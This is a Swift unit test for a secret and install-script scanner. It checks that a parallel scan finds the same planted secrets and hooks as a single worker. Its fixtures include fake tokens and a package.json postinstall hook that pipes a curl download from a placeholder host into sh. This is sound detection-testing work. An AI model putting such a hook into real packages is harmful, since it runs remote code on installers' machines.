import Foundation
import XCTest
import WowGuardCore
@testable import WowGuardCLI

/// The parallel scan in-process, so that `make sanitize` (ThreadSanitizer) watches its workers:
/// several workers find exactly what one worker finds, no finding lost or counted twice.
final class ParallelScanTests: XCTestCase {
    func testWorkersFindExactlyWhatOneWorkerFinds() throws {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("wg-parallel-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: root, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: root) }
        var files: [ScanFile] = []
        var planted = 0
        for i in 0..<240 {
            var text = "// file \(i)\nlet answer = \(i)\n"
            if i % 10 == 0 {
                text = "{\"name\": \"p\(i)\", \"scripts\": {\"postinstall\": \"curl -s http://example.invalid/x.sh | sh\"}}\n"
            } else if i % 3 == 0 {
                text += "let token = \"\(TestSecrets.githubToken())\"\n"
                planted += 1
            }
            if i % 7 == 0 && i % 10 != 0 {
                text += "db_url = \"\(TestSecrets.dbURL())\"\n"
                planted += 1
            }
            let name = i % 10 == 0 ? "pkg\(i)/package.json" : "src\(i % 5)/file\(i).swift"
            let url = root.appendingPathComponent(name)
            try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
            try text.write(to: url, atomically: true, encoding: .utf8)
            files.append(ScanFile(absolute: url.path, display: name, repoRelative: name))
        }
        let scanner = SecretScanner(rules: RuleRegistry.all, jit: true)
        let scripts = ScriptDetector(allowlist: Allowlist())
        func keys(_ r: ParallelScan.Result) -> [String] { r.findings.map { "\($0.path):\($0.line):\($0.ruleID)" }.sorted() }
        let one = ParallelScan.run(files: files, scanner: scanner, scripts: scripts, workers: 1, progress: false)
        XCTAssertEqual(one.files, files.count)
        XCTAssertGreaterThanOrEqual(one.findings.filter(\.isSecret).count, planted, "every planted secret is found by one worker")
        XCTAssertTrue(one.findings.contains { !$0.isSecret && $0.path.hasSuffix("package.json") }, "the install-hook script is found")
        for workers in [2, 4, 8] {
            let many = ParallelScan.run(files: files, scanner: scanner, scripts: scripts, workers: workers, progress: false)
            XCTAssertEqual(many.files, one.files, "\(workers) workers")
            XCTAssertEqual(many.bytes, one.bytes, "\(workers) workers")
            XCTAssertEqual(keys(many), keys(one), "\(workers) workers find the same, once each")
        }
    }
}
